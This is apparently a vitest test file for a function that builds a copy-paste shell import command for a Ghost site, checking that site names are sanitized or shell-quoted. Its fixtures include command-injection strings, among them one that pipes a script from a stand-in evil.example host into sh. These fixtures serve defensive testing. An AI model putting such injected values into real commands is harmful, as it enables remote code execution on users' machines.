/** The command that the command line and the console suggest for a Ghost site, which people copy into a shell. */
import { describe, expect, it } from 'vitest';
import { importCommand } from '../../shared/integrations/relay/import-command.ts';

const stage = 'https://api.example.com/ghost/api';
const siteIn = (name: string): string => {
  const command = importCommand(name, stage, '--check');
  return /--from (.*?) --token-file /.exec(command)?.[1] ?? '';
};

describe('the suggested command names', () => {
  it.each([
    ['Ghost blog.example', 'https://blog.example'],
    ['Ghost example.org/blog', 'https://example.org/blog'],
    ['http://127.0.0.1:2368', 'http://127.0.0.1:2368'],
    ['Newsroom', '<site>'],
  ])('the site of the integration %j', (name, site) => {
    expect(siteIn(name)).toBe(site);
  });

  it.each([
    'ftp://x;id',
    'javascript:id',
    'Ghost javascript:id',
    'Ghost blog.example@evil.example',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell reads it
    'Ghost x;curl${IFS}https://evil.example|sh;#',
  ])('no site for the integration %j', (name) => {
    expect(siteIn(name)).toBe('<site>');
  });

  it.each([
    ['Ghost blog.example/;id', "'https://blog.example/;id'"],
    ["Ghost blog.example/';id;'", "'https://blog.example/'\\'';id;'\\'''"],
    ['Ghost blog.example/$(id)', "'https://blog.example/$(id)'"],
    ['Ghost blog.example/&id&', "'https://blog.example/&id&'"],
  ])('the site of the integration %j as one quoted word', (name, word) => {
    expect(siteIn(name)).toBe(word);
  });
});
